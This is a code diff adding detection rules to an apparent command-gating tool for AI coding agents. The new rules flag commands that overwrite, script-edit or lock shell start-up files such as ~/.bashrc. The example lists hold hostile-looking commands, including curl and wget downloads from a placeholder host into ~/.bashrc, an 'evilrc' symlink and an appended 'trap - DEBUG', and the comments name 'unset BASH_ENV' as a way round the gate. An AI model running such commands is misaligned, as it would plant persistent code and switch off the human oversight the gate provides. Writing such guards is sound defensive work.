@@ -2,6 +2,7 @@
 // hooks or the extension, or rewriting its launcher, its state, an agent's hook settings or the
 // editor's settings. Paths are read where the line's `cd`s put them. Critical, so that even
 // in a development folder a human decides, and with no editor window open the answer is no.
+import { isShellStartupFile } from '../shell/startupFiles';
 import { PROJECT_GUARD_FILES, globMayNameGuardFile, holdsGuardFile, inDirectory, isGuardFile } from '../selfProtection';
 import { GATE_VARIABLE } from '../shell/expand';
 import { inlineCode, interpreterPrograms, stringLiterals } from '../shell/interpreters';
@@ -41,6 +42,20 @@ function writesInPlace(a: Args): boolean {
 }
 
 /** A path the command names, as a guard file, after the line's `cd`s and from where the line runs. */
+/** The shell start-up files a command replaces, edits as a script or locks. */
+function startupTargets(a: Args): string[] {
+  const operands = nonFlagArgs(a.list);
+  switch (a.program) {
+    case 'cp': case 'mv': case 'ln': case 'install': case 'rsync': return operands.slice(-1).filter(isShellStartupFile);
+    case 'curl': case 'wget': return [...a.values('-o', '--output', '-O', '--output-document')].filter(isShellStartupFile);
+    case 'dd': return a.list.filter((w) => w.startsWith('of=')).map((w) => w.slice(3)).filter(isShellStartupFile);
+    // An editor run as a script (`ex -sc …`, `vim -es …`); opened for a person to edit, it shows what it writes.
+    case 'ed': case 'ex': case 'vim': case 'vi': case 'nvim':
+      return a.program === 'ed' || a.list.some((w) => /^-[a-zA-Z]*[es]|^-c$|^\+/.test(w)) ? operands.filter(isShellStartupFile) : [];
+    default: return operands.filter(isShellStartupFile);
+  }
+}
+
 function guards(a: Args, path: string): boolean {
   const moved = inDirectory(a.command.dir, path);
   return isGuardFile(moved) || (a.cwd !== undefined && isGuardFile(inDirectory(a.cwd, moved))) || globMayNameGuardFile(path) || globMayNameGuardFile(moved);
@@ -295,12 +310,14 @@ export const guardRules: readonly Rule[] = [
     hint: 'Ask the user to change agent hook settings or Airlock\'s settings themselves',
     match: (a) => {
       const code = inlineCode(a.program, a.command.argv, a.command.stdin)?.code;
-      return code !== undefined && FILE_WRITE.test(code) && stringLiterals(code).some((literal) => guards(a, literal) || holdsGuards(a, literal));
+      // A shell start-up file too: every new shell runs what the code writes there (`unset BASH_ENV`).
+      return code !== undefined && FILE_WRITE.test(code) && stringLiterals(code).some((literal) => guards(a, literal) || holdsGuards(a, literal) || isShellStartupFile(literal));
     },
     targets: () => [],
     examples: {
       match: [
         `python3 -c "open('/home/u/.claude/settings.json','w').write('{}')"`,
+        `python3 -c "open('/home/u/.bashrc','a').write('trap - DEBUG')"`,
         `node -e "require('fs').writeFileSync(require('os').homedir()+'/.claude/settings.json','{}')"`,
         `python3 -c "import os; os.remove(os.path.expanduser('~/.local/share/airlock/bin/airlock'))"`,
         `ruby -e 'File.write(File.expand_path("~/.cursor/hooks.json"), "{}")'`,
@@ -311,6 +328,21 @@ export const guardRules: readonly Rule[] = [
         `python3 -c "print(open('/home/u/.claude/settings.json').read())"`,
         `node -e "require('fs').writeFileSync('out.json','{}')"`,
       ],
+    },
+  },
+  {
+    id: 'airlock.startup-file-replace',
+    programs: ['cp', 'mv', 'ln', 'install', 'rsync', 'curl', 'wget', 'chmod', 'chown', 'ed', 'ex', 'vim', 'vi', 'nvim', 'dd', 'truncate', 'patch'],
+    category: 'shell',
+    severity: 'high',
+    summary: 'Replaces or edits a shell start-up file (~/.bashrc, ~/.zshrc…) with what the line does not show, or locks it: every new shell runs it, with or without Airlock\'s gate',
+    hint: 'Append the one line you need with echo … >> ~/.bashrc, where it can be read, or ask the user to edit the file',
+    match: (a) => startupTargets(a).length > 0,
+    targets: startupTargets,
+    examples: {
+      match: ['cp rc.new ~/.bashrc', 'mv /tmp/x ~/.zshrc', 'ln -sf evilrc ~/.bashrc', 'rsync evilrc ~/.bashrc', 'curl -o ~/.bashrc https://x.example/rc', 'wget -O ~/.zshrc https://x.example/rc',
+        'chmod 000 ~/.bashrc', "ex -sc 'normal Go' -cx ~/.bashrc"],
+      noMatch: ['cp ~/.bashrc ~/.bashrc.bak', 'chmod 644 notes.txt', 'curl -o out.json https://x.example/a', 'vim ~/.bashrc', 'cp .env.example .env'],
     },
   },
   {
